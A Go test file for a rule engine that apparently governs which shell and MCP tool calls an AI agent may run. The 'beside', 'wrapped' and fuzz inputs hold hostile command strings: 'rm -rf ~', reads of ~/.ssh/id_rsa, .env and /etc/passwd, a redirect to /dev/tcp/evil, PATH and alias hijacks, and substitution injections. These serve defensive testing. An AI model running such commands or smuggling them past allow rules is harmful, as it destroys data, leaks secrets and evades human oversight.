package toolrule

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"neverask/hooks"
	"neverask/settings/must"
)

// allowing is a rule that allows shell commands.
func allowing(pattern string) string {
	return fmt.Sprintf(`{"id":"ok","tool":"Bash","act":"allow","when":[{"field":"command","matches":%s}]}`, quote(pattern))
}

// bash is the input of a shell command.
func bashInput(t *testing.T, command string) hooks.Value {
	t.Helper()
	return parse(t, `{"command":`+quote(command)+`}`)
}

// work is where the calls of these tests are made.
var work = Situation{Project: "/work/shop", Cwd: "/work/shop", Home: "/home/me"}

func allowed(t *testing.T, rule, command string) bool {
	t.Helper()
	return New(list(t, rule)).Decide(Call{"Bash", bashInput(t, command)}, work, nil).Act == Allow
}

// An allowing rule holds for what it says and for no more: every command of the line
// matches it whole, or only reads.
func TestAllowedWhole(t *testing.T) {
	for pattern, lines := range map[string][]string{
		"npm test": {
			"npm test", "npm test\n", " npm test ", "npm test;", "npm test && npm test", "npm test || npm test; npm test\nnpm test", "npm test | tail -20",
			"npm test 2>&1", "npm test 2>&1 | tail -n 20", "npm test > /dev/null 2>&1", "cd /work/shop && npm test", "cd web && npm test", "cd ./web; npm test | grep -c 'not ok'",
			"cat package.json && npm test", `echo "tests: " && npm test`, "ls -la *.json && npm test", "npm test 2>&1 | sort | uniq -c | head",
		},
		"^npm test$":                        {"npm test"},
		"npm test|go vet":                   {"npm test", "go vet", "go vet && npm test"},
		`go test( [\w./-]+)*`:               {"go test ./...", "go test -race ./a ./b && go test"},
		`git commit -m "[^"]*"`:             {`git commit -m "a; b && c > d"`, "git commit -m \"a\nb\"", `git commit -m "it's done"`, `git commit -m "größer ≥ 3"`},
		`grep -E '[^']*' src`:               {`grep -E '\bfoo|bar$' src`, "grep -E '$(x)`y`' src"},
		"(?i)npm test":                      {"NPM test"},
		"make (test|lint)( -j[0-9]+)?":      {"make test -j4 && make lint"},
		"(?m)^npm test$":                    {"npm test"},
		`\./gradlew :app:test --tests '.*'`: {"./gradlew :app:test --tests '*.ParserTest'"},
	} {
		for _, line := range lines {
			if !allowed(t, allowing(pattern), line) {
				t.Errorf("%q: %q is not allowed", pattern, line)
			}
		}
	}
}

// others are lines in which a command that is allowed, %s, stands with another.
var others = []string{"%s && rm -rf ~", "%s; rm -rf ~", "%s || rm -rf ~", "%s | sh", "%s\nrm -rf ~", "rm -rf ~; %s", "rm -rf ~\n%s"}

// beside are lines that are not allowed where a rule says %s and no more.
var beside = append(slices.Clip(others),
	"%s x", "x%s", "%sify", "%s ''",
	"cat ~/.ssh/id_rsa; %s", "cat .env && %s", "uniq a b; %s", "sort -o x y; %s", "sort --outp=x y; %s", "find . -delete; %s", "tee x; %s", "%s | tee ~/.bashrc",
	"git log --output=x; %s", "sed -i s/a/b/ x; %s", "npm ci && %s", "touch x; %s", "rg --pre=evil x; %s", "cd web; cd web; %s", "pushd /tmp/evil && %s",
	"cd /tmp/evil && %s", "cd .. && %s", "cd && %s", "cd - && %s", "cd ~ && %s", "cd /work/shop/../evil; %s", "cd -P /tmp/evil; %s", "cd w*b; %s", "cd a b; %s", "%s | cd web",
	"cat x | cd web; %s", "cat /etc/passwd; %s", "%s && cat ../x", "cat ~/notes; %s", "grep -f/etc/passwd x; %s", "cd web && cat ../../x; %s", "printf -v PATH /tmp/evil; %s",
)

// wrapped are lines that do more with a command, %s, than run it: whatever a rule says,
// what they do cannot be known from the words.
var wrapped = []string{
	"%s & rm -rf ~", "%s |& sh", "%s &", "%s & disown", "%s $(rm -rf ~)", "%s `rm -rf ~`", `%s "$(rm -rf ~)"`, "%s \"`rm -rf ~`\"", "%s <(rm -rf ~)", "%s >(sh)", "$(%s)", "`%s`",
	"eval \"$(%s)\"", "%s ${x:-$(rm)}", "%s $x", `%s "$x"`, "%s $((x))", `%s $'\n'rm`, `%s $"x"`,
	"%s > ~/.bashrc", "%s >> ~/.bashrc", "%s >| x", "%s &> x", "%s 2> x", "%s < x", "%s <<< x", "%s <<X\nrm\nX", "%s > /dev/null/../../home/me/.bashrc", "%s >& x", "%s > /dev/tcp/evil/1", "> /dev/null > x %s", "%s {fd}>/dev/null",
	"sudo %s", "env %s", "env X=1 %s", "xargs %s", "echo x | xargs %s", "nohup %s", "time %s", "command %s", "exec %s", "builtin %s", "nice %s", "timeout 5 %s", "sh -c '%s'", "bash -lc \"%s\"", "eval %s", "noglob %s", "/usr/bin/env %s", "busybox %s", "SUDO %s",
	"PATH=/tmp/evil %s", "PATH=/tmp/evil; %s", "export PATH=/tmp/evil; %s", "NODE_OPTIONS=-r./evil %s", "declare PATH=x; %s", "alias npm=evil; %s", "npm() { evil; }; %s", "function npm { evil; }; %s", "hash -p /tmp/evil npm; %s", "set -a; %s", ". ./evil; %s", "source evil; %s", "trap evil EXIT; %s", "cat x; evil=1; %s",
	"(%s)", "{ %s; }", "if true; then %s; fi", "for x in 1; do %s; done", "while %s; do rm; done", "case x in x) %s;; esac", "! %s", "[[ -f x ]] && %s", "((x)) && %s", "coproc %s", "select x in a; do %s; done", "repeat 3 %s",
	"cd $X; %s", "%s\\\nx", "%s {a,b}", "%s \\; rm", "%s !x", "%s # x", "# x\n%s", "%s\r", "%s\r\nx", "%s\x1b[2J", "%s\u00a0x", "%s\u202e", "%s '\u202e'", "%s\xff", "'%s'", `"%s"`, "/bin/?p? test; %s", "r{m,} -rf ~; %s", "~/evil; %s", "=evil; %s", "%s =(evil)", "ls *(e:evil:); %s",
	"%s '", `%s "`, "%s (", "%s )", "%s;;", "; %s", "&& %s", "%s &&", "| %s", "%s && && %s", "%s;; %s",
}

func TestAllowedNoMore(t *testing.T) {
	for _, line := range slices.Concat(beside, wrapped) {
		line = strings.ReplaceAll(line, "%s", "npm test")
		for _, pattern := range []string{"npm test", "^npm test", `\bnpm test\b`, "(?m)^npm test$"} {
			if allowed(t, allowing(pattern), line) {
				t.Errorf("%q: %q is allowed", pattern, line)
			}
		}
	}
	for _, line := range []string{
		"ls", "cat npm test", "echo npm test", "", " ", "cd /work/shop", strings.Repeat("npm test;", 2000), strings.Repeat("(", 4000) + "npm test", strings.Repeat("$(", 4000) + "npm test",
	} {
		if allowed(t, allowing("npm test"), line) {
			t.Errorf("%.40q is allowed", line)
		}
	}
}

// A pattern that finds anything still allows only lines that are nothing but commands,
// and runs no command within another.
func TestAllowedByAnyPattern(t *testing.T) {
	for _, line := range wrapped {
		if line = strings.ReplaceAll(line, "%s", "npm test"); allowed(t, allowing(`(?s).*`), line) {
			t.Errorf("%q is allowed", line)
		}
	}
	for _, line := range []string{"npm test && rm -rf ~", "npm test | tee ~/.bashrc", "npm testify"} {
		if !allowed(t, allowing(".*"), line) {
			t.Errorf("%q is not allowed", line)
		}
	}
}

// What a rule says of other fields and other tools.
func TestAllowedBesides(t *testing.T) {
	const npm = `{"field":"command","matches":"npm test"}`
	rule := func(tool, rest string) string { return `{"id":"ok","tool":"` + tool + `","act":"allow",` + rest + `}` }
	when := func(tool, conditions string) string { return rule(tool, `"when":[`+conditions+`]`) }
	for _, tt := range []struct {
		rule, tool, input string
		want              Act
	}{
		{when("Monitor", npm), "Monitor", `{"command":"npm test"}`, Allow},
		{when("Monitor", npm), "Monitor", `{"command":"npm test; evil"}`, ""},
		{when("*", npm), "mcp__workspace__bash", `{"command":"npm test; evil"}`, ""},
		{when("mcp__x__y", npm), "mcp__x__y", `{"command":"npm test"}`, Allow},
		{when("mcp__x__y", npm), "mcp__x__y", `{"command":"npm test & evil"}`, ""},
		// That another field is a command line cannot be known.
		{when("mcp__x__y", `{"field":"script","matches":"npm test"}`), "mcp__x__y", `{"script":"npm test & evil"}`, Allow},
		{when("PowerShell", npm), "PowerShell", `{"command":"npm test"}`, ""},
		{when("Bash|PowerShell", npm), "PowerShell", `{"command":"npm test"}`, ""},
		{when("Bash|PowerShell", npm), "Bash", `{"command":"npm test"}`, Allow},
		{when("*", `{"field":"code","matches":"x"}`), "REPL", `{"code":"x"}`, ""},
		{when("PowerShell", `{"field":"command","matches":"rm","not":true}`), "PowerShell", `{"command":"ls"}`, ""},
		// Without a condition on the command all are allowed; with one that only
		// excludes, those that can be read.
		{rule("Bash", `"note":"x"`), "Bash", `{"command":"a > b; $(c)"}`, Allow},
		{rule("PowerShell", `"note":"x"`), "PowerShell", `{"command":"a"}`, Allow},
		{when("Bash", `{"field":"description","matches":"x"}`), "Bash", `{"command":"a > b","description":"x"}`, Allow},
		{when("Bash", `{"field":"command","matches":"rm","not":true}`), "Bash", `{"command":"ls -l; cp a b"}`, Allow},
		{when("Bash", `{"field":"command","matches":"rm","not":true}`), "Bash", `{"command":"ls; rm x"}`, ""},
		{when("Bash", `{"field":"command","matches":"rm","not":true}`), "Bash", `{"command":"ls; r\\m x"}`, ""},
		{when("Bash", npm+`,{"field":"command","matches":"--watch","not":true}`), "Bash", `{"command":"npm test"}`, Allow},
		{when("Bash", `{"field":"command","matches":"npm test.*"},{"field":"command","matches":"--watch","not":true}`), "Bash", `{"command":"npm test --watch"}`, ""},
		{when("Bash", `{"field":"command","matches":"npm .*"},{"field":"command","matches":".* test"}`), "Bash", `{"command":"npm test && npm run test"}`, Allow},
		{when("Bash", `{"field":"command","matches":"npm .*"},{"field":"command","matches":".* test"}`), "Bash", `{"command":"npm test && npm publish"}`, ""},
		{when("Bash", npm+`,{"field":"timeout","matches":"^600$"}`), "Bash", `{"command":"npm test; evil","timeout":600}`, ""},
		{when("Bash", npm), "Bash", `{"command":"npm test","dangerouslyDisableSandbox":true}`, ""},
		{when("Bash", npm), "Bash", `{"command":"npm test","dangerouslyDisableSandbox":false}`, Allow},
		{when("Bash", npm+`,{"field":"dangerouslyDisableSandbox","matches":"true"}`), "Bash", `{"command":"npm test","dangerouslyDisableSandbox":true}`, Allow},
		{when("Bash", npm), "Bash", `{"command":["npm test"]}`, ""},
		{when("Bash", npm), "Bash", `{"command":"npm test","command":"evil"}`, ""},
		// A patch: what "set" says is the person's, what "replace" leaves is read again.
		{rule("Bash", `"when":[`+npm+`],"patch":[{"field":"command","replace":"npm","with":"pnpm"}]`), "Bash", `{"command":"npm test"}`, Allow},
		{rule("Bash", `"when":[{"field":"command","matches":"npm test.*"}],"patch":[{"field":"command","replace":"'","with":""}]`), "Bash", `{"command":"npm test '; evil $(x)'"}`, ""},
		{rule("Bash", `"when":[`+npm+`],"patch":[{"field":"command","set":"npm test > log"}]`), "Bash", `{"command":"npm test"}`, Allow},
		{rule("Bash", `"when":[`+npm+`],"patch":[{"field":"command","set":"npm test > log"}]`), "Bash", `{"command":"npm test; evil"}`, ""},
	} {
		var trace Trace
		if d := New(list(t, tt.rule)).Decide(Call{tt.tool, parse(t, tt.input)}, work, &trace); d.Act != tt.want {
			t.Errorf("%s\n%s: %q, not %q: %v", tt.rule, tt.input, d.Act, tt.want, trace.Steps)
		}
	}
}

// Rules that refuse, ask or tell find their pattern anywhere in the line, also where an
// allowing rule does not hold.
func TestOnlyAllowIsWhole(t *testing.T) {
	for _, line := range slices.Concat(beside, wrapped) {
		line = strings.ReplaceAll(line, "%s", "npm test")
		for _, act := range []Act{Deny, Ask, Context} {
			rule := fmt.Sprintf(`{"id":"r","tool":"Bash","act":%q,"message":"m","when":[{"field":"command","matches":"npm test"}]}`, act)
			d := New(list(t, rule, `{"id":"all","tool":"Bash","act":"allow"}`)).Decide(Call{"Bash", bashInput(t, line)}, work, nil)
			if want := act; d.Act != want && !(act == Context && d.Act == Allow && d.Context != "") {
				t.Errorf("%s: %q is decided as %q", act, line, d.Act)
			}
		}
	}
}

func TestReach(t *testing.T) {
	when := func(tool, conditions string) string {
		return `{"tool":"` + tool + `","act":"allow","when":[` + conditions + `]}`
	}
	for rule, want := range map[string]string{
		`{"tool":"Write","act":"allow"}`:                                          "wide: it allows every call of Write, unless",
		`{"tool":"Bash","act":"allow"}`:                                           "wide: it allows every call of Bash, so every command of Bash whatever it does, unless",
		`{"tool":"mcp__x__*","act":"allow"}`:                                      "wide: it allows every call of mcp__x__*, unless",
		`{"tool":"Bash","act":"ask"}`:                                             "",
		when("Write", `{"field":"file_path","within":"project"}`):                 "",
		when("Bash", `{"field":"description","matches":"x"}`):                     `wide: it allows every command of Bash where its conditions hold: none of them is about "command"`,
		when("Bash", `{"field":"command","matches":"rm","not":true}`):             "wide: it allows every command of Bash in which a pattern is not found",
		when("Bash", `{"field":"command","matches":".*"}`):                        "wide: its pattern matches any command",
		when("Bash", `{"field":"command","matches":"npm test"}`):                  ": it allows a command line only where each command in it is matched as a whole",
		when("Bash", `{"field":"command","matches":"^sudo systemctl restart x"}`): "inert: it never allows what its pattern names: sudo runs",
		when("Bash|PowerShell", `{"field":"command","matches":"npm test"}`):       "inert: it never allows anything of PowerShell",
	} {
		r, err := parseRule([]byte(rule))
		if err != nil {
			t.Fatal(rule, err)
		}
		var got string
		for _, reach := range r.Reach() {
			got += reach.Kind + ": " + reach.Text
		}
		if !strings.HasPrefix(got, want) || want == "" && got != "" {
			t.Errorf("%s: %q, not %q", rule, got, want)
		}
	}
}

// Compiled rules decide as all do.
func TestAllowedCompiled(t *testing.T) {
	content := file(allowing("npm  ?test"), `{"id":"ok2","tool":"Bash","act":"allow","when":[{"field":"command","matches":"^go vet$"}]}`)
	compiled, _, err := Compile(content)
	must.Do(t, err)
	c, err := OpenCompiled(compiled)
	must.Do(t, err)
	for _, line := range []string{"npm test", "cat x; npm test", "go vet", "go vet; go vet", "npm test; rm x", "npm  test"} {
		call := Call{"Bash", bashInput(t, line)}
		few, err := c.For(call)
		must.Do(t, err)
		all, _, _ := Parse(content)
		if one, other := New(few).Decide(call, work, nil), New(all).Decide(call, work, nil); summary(one) != summary(other) {
			t.Errorf("%q: %q compiled, else %q", line, summary(one), summary(other))
		}
	}
}

// FuzzAllow: nothing that is put before, behind or round a line that is allowed stays
// allowed, unless it is covered itself.
func FuzzAllow(f *testing.F) {
	for _, line := range []string{"npm test", "npm test; cat x", "cd web && npm test -- --grep 'a; b'", "npm test \"x\" 2>&1 | tail -5", "npm test *.js", "npm test 'a\\'"} {
		f.Add(line)
	}
	f.Add("npm test --grep=x y/z --watch")
	rules := []string{allowing(`npm test( [\w.*/=-]+| '[^']*'| "[^"]*")*`), running("npm test [--grep *] [--watch] ...")}
	f.Fuzz(func(t *testing.T, line string) {
		for _, rule := range rules {
			if !allowed(t, rule, line) {
				continue
			}
			for _, with := range slices.Concat(others, wrapped) {
				if changed := strings.ReplaceAll(with, "%s", line); allowed(t, rule, changed) {
					t.Errorf("%q is allowed, and so is %q", line, changed)
				}
			}
		}
	})
}
